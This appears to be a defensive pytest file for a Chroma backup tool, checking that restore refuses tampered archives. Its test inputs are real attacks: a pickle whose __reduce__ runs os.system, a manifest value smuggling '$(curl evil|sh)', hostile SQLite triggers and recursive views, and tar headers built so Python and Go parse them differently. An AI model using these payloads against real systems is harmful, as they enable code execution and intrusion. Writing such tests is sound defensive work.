"""Issue 16, part 5: `restore` trusted what SQLite would run and what the engine would extract.
Each test is an attack that worked before restore accepted only what Chroma itself writes
(verified and restored, or a traceback, or a hang); all fast, without Docker."""

from __future__ import annotations

import io
import os
import pickle
import pty
import sqlite3
import subprocess
import sys
import tarfile
import time
import types

import pytest

from chromactl import archive
from chromactl.errors import ChromactlError
from chromactl import output
from conftest import ok
from test_archive import make_sqlite
from test_backup_checks import build_backup, member


def refused(output, work) -> ChromactlError:
    """The error verify_backup refuses `output` with."""
    with pytest.raises(ChromactlError) as caught:
        archive.verify_backup(output, work)
    return caught.value


def refusal(output, work) -> str:
    return refused(output, work).message


def run(project, *args, timeout=30, **kwargs) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CHROMACTL_")}
    return subprocess.run([sys.executable, "-m", "chromactl", *args], cwd=project, capture_output=True, text=True,
                          env=env, timeout=timeout, **kwargs)


def one_line_error(result: subprocess.CompletedProcess) -> str:
    """The one line of an error on stderr (after progress lines, "> ..."), exit 1, no traceback."""
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    lines = [line for line in result.stderr.strip().splitlines() if not line.startswith("> ")]
    assert len(lines) == 1 and lines[0].startswith("chromactl: error: "), result.stderr
    return lines[0]


@pytest.fixture
def project(chromactl):
    ok(chromactl("init", "--image", "chromadb/chroma:0.6.3"))
    return chromactl.project


# --- the database: only the schema a known Chroma writes, read in bounded time ----------------------


@pytest.mark.parametrize("tamper, difference", [
    # Every later `add` answers 500 while `status` says healthy.
    ("CREATE TRIGGER evil BEFORE INSERT ON embeddings BEGIN SELECT RAISE(ABORT, 'no'); END;",
     "trigger 'evil' is not one Chroma creates"),
    ("CREATE VIEW extra AS SELECT * FROM embeddings;", "view 'extra' is not one Chroma creates"),
    ("CREATE TABLE notes (x);", "table 'notes' is not one Chroma creates"),
    ("CREATE INDEX sneaky ON embeddings (seq_id);", "index 'sneaky' is not one Chroma creates"),
    ("DROP TABLE maintenance_log; CREATE TABLE maintenance_log (id INT PRIMARY KEY, timestamp INT NOT NULL, "
     "operation TEXT NOT NULL CHECK (operation = 'x'));", "table 'maintenance_log' differs from Chroma's"),
    ("DROP TABLE embeddings_queue_config;", "table 'embeddings_queue_config' is missing"),
])
def test_a_database_with_a_schema_chroma_does_not_write_is_refused(tmp_path, tamper, difference):
    output, work, _ = build_backup(tmp_path, tamper=tamper)
    with pytest.raises(ChromactlError) as caught:
        archive.verify_backup(output, work)
    assert caught.value.message == (f"{output}: chroma.sqlite3 is not what Chroma writes: {difference} "
                                    "(compared with Chroma 0.6's schema)")
    assert caught.value.hint == "nothing was changed; use another backup"


RECURSIVE_MIGRATIONS = ("DROP TABLE migrations; CREATE VIEW migrations AS WITH RECURSIVE r(n) AS "
                        "(SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT 'sysdb' AS dir, n AS version FROM r;")


def test_a_view_named_migrations_that_never_ends_is_refused_at_once(tmp_path, project):
    output, _, _ = build_backup(tmp_path / "b", tamper=RECURSIVE_MIGRATIONS)
    started = time.monotonic()
    line = one_line_error(run(project, "restore", str(output)))  # it used to hang for ever
    assert time.monotonic() - started < 20
    assert "chroma.sqlite3 is not what Chroma writes: view 'migrations' is not one Chroma creates" in line


def test_every_read_of_a_database_is_bounded(tmp_path, monkeypatch):
    """Outside restore (the project's own volume, whatever Chroma wrote it) the schema is not
    compared, but no read runs longer than SQLITE_STEPS."""
    make_sqlite(tmp_path / "db.sqlite3")
    db = sqlite3.connect(tmp_path / "db.sqlite3")
    db.executescript(RECURSIVE_MIGRATIONS)
    db.close()
    monkeypatch.setattr(archive, "SQLITE_STEPS", 2_000_000)
    with pytest.raises(ChromactlError, match=r"^reading chroma.sqlite3 took more than 2,000,000 steps: "
                                             r"not a database Chroma wrote$"):
        archive.inspect_sqlite(tmp_path / "db.sqlite3")


@pytest.mark.parametrize("row, problem", [
    ("('sysdb', 'x', '', '', '')", "holds values of types Chroma does not write"),  # a ValueError traceback before
    ("('sysdb', 10, '', '', '')", "has the schema of Chroma 0.6 data but not its migrations"),
])
def test_migrations_that_are_not_chromas_end_in_one_line(tmp_path, row, problem):
    output, work, _ = build_backup(tmp_path, tamper=f"INSERT INTO migrations VALUES {row};")
    assert refusal(output, work).startswith(f"{output}: chroma.sqlite3 {problem}")


def test_values_of_other_types_end_in_one_line_outside_restore_too(tmp_path):
    make_sqlite(tmp_path / "own.sqlite3")  # the project's own volume: not compared, still read safely
    db = sqlite3.connect(tmp_path / "own.sqlite3")
    db.execute("INSERT INTO migrations VALUES ('sysdb', 'x', '', '', '')")
    db.commit()
    db.close()
    with pytest.raises(ChromactlError, match="holds values of types Chroma does not write"):
        archive.inspect_sqlite(tmp_path / "own.sqlite3")


@pytest.mark.parametrize("kind, linkname, what", [
    (tarfile.FIFOTYPE, "", "a FIFO"),
    (tarfile.SYMTYPE, "missing", "a symbolic link"),  # dangling: a KeyError traceback before
    (tarfile.SYMTYPE, "v1/data_level0.bin", "a symbolic link"),
])
def test_a_database_that_is_not_a_regular_file_is_refused(tmp_path, kind, linkname, what):
    output, work, _ = build_backup(tmp_path, sqlite=False, extra=[member("chroma.sqlite3", kind, linkname)])
    assert refusal(output, work) == (f"{output}: refusing {what}: 'chroma.sqlite3' (Chroma writes only regular "
                                     "files and folders, once each)")


@pytest.mark.parametrize("make", [os.mkfifo, lambda path: os.symlink("missing", path)])
def test_a_database_path_that_is_not_a_regular_file_is_refused(tmp_path, make):
    make(tmp_path / "chroma.sqlite3")  # a FIFO used to block the open for ever
    script = ("import sys, pathlib\nfrom chromactl import archive, errors\ntry:\n"
              "    archive.inspect_sqlite(pathlib.Path(sys.argv[1]))\nexcept errors.ChromactlError as exc:\n"
              "    print(exc.message)")
    result = subprocess.run([sys.executable, "-c", script, str(tmp_path / "chroma.sqlite3")], capture_output=True,
                            text=True, timeout=20)
    assert result.stdout == "chroma.sqlite3 is not a regular file: not a database Chroma wrote\n", result.stderr


@pytest.mark.parametrize("make", [os.mkdir, lambda path: os.symlink("real.sqlite3", path)])
def test_a_database_path_that_is_a_folder_or_a_link_to_a_database_is_refused(tmp_path, make):
    make_sqlite(tmp_path / "real.sqlite3")  # a link is refused even to a database Chroma wrote
    make(tmp_path / "chroma.sqlite3")
    with pytest.raises(ChromactlError) as caught:
        archive.inspect_sqlite(tmp_path / "chroma.sqlite3")
    assert caught.value.message == "chroma.sqlite3 is not a regular file: not a database Chroma wrote"


# --- the members: regular files and folders, once each, handed to the engine as chromactl wrote them -


def hostile_sqlite(tmp_path) -> bytes:
    make_sqlite(tmp_path / "hostile.sqlite3")
    db = sqlite3.connect(tmp_path / "hostile.sqlite3")
    db.execute("CREATE TRIGGER evil BEFORE INSERT ON embeddings BEGIN SELECT RAISE(ABORT, 'no'); END")
    db.close()
    return (tmp_path / "hostile.sqlite3").read_bytes()


@pytest.mark.parametrize("second", ["./chroma.sqlite3", "chroma.sqlite3", ".//chroma.sqlite3", "v1//data_level0.bin"])
def test_a_second_member_of_the_same_name_is_refused(tmp_path, second):
    """The engine extracts the last of two members of one name; the first was the one checked."""
    output, work, _ = build_backup(tmp_path, extra=[member(second, data=hostile_sqlite(tmp_path))])
    assert f"refusing a second member of the same name: {second!r}" in refusal(output, work)


@pytest.mark.parametrize("name, kind, mode, what", [
    ("v1/tool", tarfile.REGTYPE, 0o4755, "setuid, setgid or sticky mode bits"),
    ("v1/tool", tarfile.REGTYPE, 0o2755, "setuid, setgid or sticky mode bits"),
    ("v1/tmp", tarfile.DIRTYPE, 0o1777, "setuid, setgid or sticky mode bits"),
    ("chroma.sqlite3-journal", tarfile.REGTYPE, 0o644, "a SQLite journal beside chroma.sqlite3"),  # replayed into
    ("chroma.sqlite3-wal", tarfile.REGTYPE, 0o644, "a SQLite journal beside chroma.sqlite3"),  # the checked db
    ("v1/\x1b[2Jclear", tarfile.REGTYPE, 0o644, "a name with control characters"),
    ("v1/data_level0.bin/inside", tarfile.REGTYPE, 0o644, "a member below a file"),
    (".", tarfile.REGTYPE, 0o644, "an empty name"),  # a file where the data folder itself stands
    ("./", tarfile.REGTYPE, 0o644, "an empty name"),
])
def test_modes_journals_and_names_chroma_never_writes_are_refused(tmp_path, name, kind, mode, what):
    info, data = member(name, kind)
    info.mode = mode
    output, work, _ = build_backup(tmp_path, extra=[(info, data)])
    assert refusal(output, work).startswith(f"{output}: refusing {what}: {name!r}")


def test_a_sparse_member_claiming_a_petabyte_is_refused(tmp_path):
    info, data = member("v1/huge", data=b"")
    info.pax_headers = {"GNU.sparse.map": "0,0", "GNU.sparse.size": str(2 ** 50)}  # hid what followed it
    output, work, _ = build_backup(tmp_path, extra=[(info, data), member("v1/after")])
    assert refusal(output, work).startswith(f"{output}: refusing a sparse file: 'v1/huge'")


def engine_view(stream: bytes) -> list[tuple[str, bytes, int]]:
    """(name, type, mode) of each member of a tar as the engine's parser (Go's archive/tar)
    reads it: a number field is trimmed of NULs and spaces at both ends, where Python's
    tarfile stops at the first NUL."""
    def number(field: bytes) -> int:
        return int(field.strip(b" \0").split(b"\0")[0] or b"0", 8)

    seen, offset = [], 0
    while offset + 512 <= len(stream) and stream[offset:offset + 512] != bytes(512):
        block = stream[offset:offset + 512]
        size = number(block[124:136])
        seen.append((block[:100].split(b"\0")[0].decode().rstrip("/"), block[156:157], number(block[100:108])))
        offset += 512 + -(-size // 512) * 512
    return seen


def hidden_members(hidden: list[tarfile.TarInfo]) -> list[tuple[tarfile.TarInfo, bytes]]:
    """Two members that Python's tarfile reads as plain files, and behind which the engine
    reads `hidden`: the first says size 0 to Python and 512 to the engine (leading NULs),
    so the engine takes the second one's header for data and its data for headers."""
    cover_data = b"".join(info.tobuf(tarfile.USTAR_FORMAT) for info in hidden)
    pad, cover = member("v1/pad", data=b""), member("v1/cover", data=cover_data)
    return [pad, cover]


def with_engine_size(header: bytes, size: int) -> bytes:
    field = b"\0\0\0\0" + b"%07o\0" % size
    block = header[:124] + field + header[136:148] + b" " * 8 + header[156:512]
    return block[:148] + b"%06o\0 " % sum(block) + block[156:]


def test_devices_fifos_and_setuid_files_hidden_from_the_check_never_reach_the_engine(tmp_path, monkeypatch):
    hidden = []
    for name, kind, mode in (("v1/blk", tarfile.BLKTYPE, 0o666), ("v1/chr", tarfile.CHRTYPE, 0o666),
                             ("v1/fifo", tarfile.FIFOTYPE, 0o666), ("v1/suid", tarfile.REGTYPE, 0o4755)):
        info = tarfile.TarInfo(name)
        info.type, info.mode = kind, mode
        hidden.append(info)
    pad, cover = hidden_members(hidden)
    real_tobuf = tarfile.TarInfo.tobuf

    def tobuf(self, *args, **kwargs):  # the first member lies about its size to the engine only
        buf = real_tobuf(self, *args, **kwargs)
        return with_engine_size(buf, 512) if self.name == "v1/pad" else buf

    monkeypatch.setattr(tarfile.TarInfo, "tobuf", tobuf)
    output, work, manifest = build_backup(tmp_path, extra=[pad, cover])
    monkeypatch.undo()
    with open(tmp_path / "data.tar", "rb") as raw:  # what the engine would read in the payload itself
        assert {kind for _, kind, _ in engine_view(raw.read())} >= {b"3", b"4", b"6"}
    assert archive.verify_backup(output, work) == manifest  # Python's tarfile sees two plain files
    with archive.restore_payload(output, work, manifest) as payload:
        handed = engine_view(payload.read())
    assert [name for name, _, _ in handed] == ["chroma.sqlite3", "v1", "v1/data_level0.bin", "v1/pad", "v1/cover"]
    assert {(kind, mode) for _, kind, mode in handed} == {(b"0", 0o644), (b"5", 0o755)}


def test_a_backup_changed_after_its_check_fails_the_copy_before_its_end(tmp_path):
    output, work, manifest = build_backup(tmp_path / "a")
    assert archive.verify_backup(output, work) == manifest
    other, _, _ = build_backup(tmp_path / "b", tamper="CREATE TABLE notes (x);",
                               extra=[member("v1/more", data=b"m" * 3000)])
    os.replace(other, output)  # swapped while the volume is being filled
    stream = io.BytesIO()
    with pytest.raises(ChromactlError, match=rf"^{output} is damaged: the data's sha256 is"):
        with archive.restore_payload(output, work, manifest) as payload:
            for block in iter(lambda: payload.read(4096), b""):
                stream.write(block)
    with tarfile.open(fileobj=io.BytesIO(stream.getvalue()), mode="r|") as tar:
        checked = tar.next()  # what was handed on so far: the database that was checked, not the new one
        assert checked.name == "chroma.sqlite3"
        assert tar.extractfile(checked).read() == (work / "chroma.sqlite3").read_bytes()


def persistent_data_pickle(monkeypatch) -> bytes:
    """An index_metadata.pickle as Chroma 0.6 writes it (its class, made here: no chromadb)."""
    module = types.ModuleType("chromadb.segment.impl.vector.local_persistent_hnsw")

    class PersistentData:
        pass

    PersistentData.__module__, PersistentData.__qualname__ = module.__name__, "PersistentData"
    module.PersistentData = PersistentData
    parts = module.__name__.split(".")
    for depth in range(1, len(parts)):
        monkeypatch.setitem(sys.modules, ".".join(parts[:depth]), types.ModuleType(".".join(parts[:depth])))
    monkeypatch.setitem(sys.modules, module.__name__, module)
    data = PersistentData()
    data.__dict__.update(dimensionality=3, total_elements_added=2, id_to_label={"a": 1, "b": 2},
                         label_to_id={1: "a", 2: "b"}, id_to_seq_id={"a": 1, "b": 2})
    return pickle.dumps(data, protocol=pickle.HIGHEST_PROTOCOL)


class RunsCode:
    def __reduce__(self):
        return os.system, ("touch /tmp/chromactl-pwned",)


def test_an_index_metadata_pickle_that_names_code_is_refused(tmp_path, monkeypatch):
    """Chroma 0.6 unpickles every segment's index_metadata.pickle at start: code for its server."""
    fine = [member("v1/index_metadata.pickle", data=persistent_data_pickle(monkeypatch)),
            member("v2/index_metadata.pickle", data=pickle.dumps({"id_to_label": {"a": 1}}))]  # as 1.x writes it
    output, work, manifest = build_backup(tmp_path / "fine", extra=fine)
    assert archive.verify_backup(output, work) == manifest
    evil = [member("v1/index_metadata.pickle", data=pickle.dumps(RunsCode()))]
    output, work, _ = build_backup(tmp_path / "evil", extra=evil)
    error = refused(output, work)
    assert error.message == (f"{output}: refusing 'v1/index_metadata.pickle': not the pickle Chroma "
                             "writes (it names posix.system)")
    assert error.hint == "nothing was changed; use another backup"


def test_a_pickle_naming_a_long_name_is_refused_in_a_line_of_bounded_length(tmp_path):
    name = "m" * 300 + ".evil"
    global_opcode = b"c" + name.encode() + b"\nrun\n."  # protocol 0: load the global name.run, stop
    output, work, _ = build_backup(tmp_path, extra=[member("v1/index_metadata.pickle", data=global_opcode)])
    assert refusal(output, work) == (f"{output}: refusing 'v1/index_metadata.pickle': not the pickle Chroma writes "
                                     f"({('it names ' + name + '.run')[:200]})")


# --- the manifest: read whole, and shown only as printable text ------------------------------------


@pytest.mark.parametrize("changes, message", [
    ({"image": "chromadb/chroma:0.6.3 $(curl evil|sh)"}, "the manifest names no valid image or time"),
    ({"created": None}, "the manifest names no valid image or time"),
    ({"records": 1_000_000}, "the data does not match its manifest"),  # shown in the question before
    ({"collections": [{"name": "docs"}]}, "the data does not match its manifest"),  # a KeyError before
])
def test_a_manifest_that_lies_or_is_malformed_is_refused(tmp_path, changes, message):
    output, work, _ = build_backup(tmp_path, manifest_changes=changes)
    assert message in refusal(output, work)


@pytest.mark.parametrize("changes", [{"image": "not an image"}, {"image": 3}, {"created": 17}])
def test_a_manifest_without_a_valid_image_or_time_says_to_use_another_backup(tmp_path, changes):
    output, work, _ = build_backup(tmp_path, manifest_changes=changes)
    error = refused(output, work)
    assert error.message == f"{output}: the manifest names no valid image or time"
    assert error.hint == "use another backup"


@pytest.mark.parametrize("manifest", [b"[" * 100_000 + b"]" * 100_000, b"[1, 2]", b'"text"'])
def test_a_manifest_that_is_no_object_ends_in_one_line(tmp_path, manifest):
    with tarfile.open(tmp_path / "b.tar", "w") as tar:
        for name, data in ((archive.MANIFEST, manifest), (archive.PAYLOAD, b"")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    assert "is not a chromactl backup" in refusal(tmp_path / "b.tar", tmp_path)


def test_escape_sequences_in_a_manifest_reach_the_question_escaped(tmp_path, project):
    created = "2026-12-01\x1b[2J\x1b[H\rReplace nothing (all safe)\x08\u202e"
    output, _, _ = build_backup(tmp_path / "b", manifest_changes={"created": created})
    controller, terminal = pty.openpty()  # the question is only asked on a terminal
    try:
        process = subprocess.Popen([sys.executable, "-m", "chromactl", "restore", str(output)], cwd=project,
                                   stdin=terminal, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        os.write(controller, b"n\n")
        _, err = process.communicate(timeout=60)
    finally:
        os.close(controller)
        os.close(terminal)
    question = err.decode()
    assert "Replace the data of proj" in question and "cancelled: nothing was restored" in question
    assert not any(c in question for c in "\x1b\r\x08\u202e"), repr(question)
    assert "taken 2026-12-01\\x1b[2J\\x1b[H\\rReplace nothing (all safe)\\x08\\u202e?" in question


def test_escape_sequences_from_the_data_reach_the_error_line_escaped(tmp_path, project):
    hostile = {"\x1b[2J\x1b[31mmetadb": 1, "embeddings_queue": 2, "sysdb": 9}
    output, _, _ = build_backup(tmp_path / "b", manifest_changes={"fingerprint": hostile},
                                tamper="DELETE FROM migrations WHERE dir = 'metadb';"
                                       "INSERT INTO migrations VALUES (char(27) || '[2J' || char(27) || '[31mmetadb', "
                                       "1, '', '', '');")
    line = one_line_error(run(project, "restore", str(output)))
    assert "\x1b" not in line and "\\x1b[2J\\x1b[31mmetadb 1" in line


def test_printable_escapes_what_moves_the_cursor_and_keeps_the_rest():
    assert output.printable("a\x1b[2Jb\r\x08\x07\u202e\x9b ü é ☃ tab\there") == \
        "a\\x1b[2Jb\\r\\x08\\x07\\u202e\\x9b ü é ☃ tab\\there"


# --- the project files: hostile YAML ends in one line ----------------------------------------------


@pytest.mark.parametrize("name", ["authz.yaml", "chromactl.yaml"])
@pytest.mark.parametrize("text, problem", [
    ("[" * 20000 + "]" * 20000, "nested deeper than 64 levels"),  # a RecursionError traceback before
    ("a: " + "{a: " * 20000 + "1" + "}" * 20000, "nested deeper than 64 levels"),
    ("".join("  " * i + "-\n" for i in range(2000)), "nested deeper than 64 levels"),
    ("port: " + "9" * 5000 + "\n", "not valid YAML: a number or date out of range"),  # a ValueError traceback
    ("name: 2026-13-45\n", "not valid YAML: a number or date out of range"),
])
def test_hostile_yaml_in_a_project_file_ends_in_one_line(project, name, text, problem):
    (project / name).write_text(text)
    line = one_line_error(run(project, "creds", "list"))
    assert line.startswith(f"chromactl: error: {name}") and problem in line


def test_deeply_nested_state_files_and_image_configs_are_read_as_unknown(tmp_path):
    """chromactl's own notes under .chromactl/ (status read them with a RecursionError) and an
    image's /config.yaml: a file nested 100,000 deep is no note and no setting."""
    from chromactl import fsio, records
    from chromactl.images import persist_path_of

    deep = "[" * 100_000 + "]" * 100_000
    (tmp_path / ".chromactl" / "tmp").mkdir(parents=True)
    for name in (records.OPERATION_FILE, records.SERVED_FILE, f"{fsio.STAGING}/{fsio.PENDING}"):
        (tmp_path / name).write_text(deep)
    assert records.operation(tmp_path) is None and records.served(tmp_path) is None
    fsio.finish_pending(tmp_path)
    assert persist_path_of(deep, "/data") is None and persist_path_of("persist_path: " + "9" * 5000, "/") is None
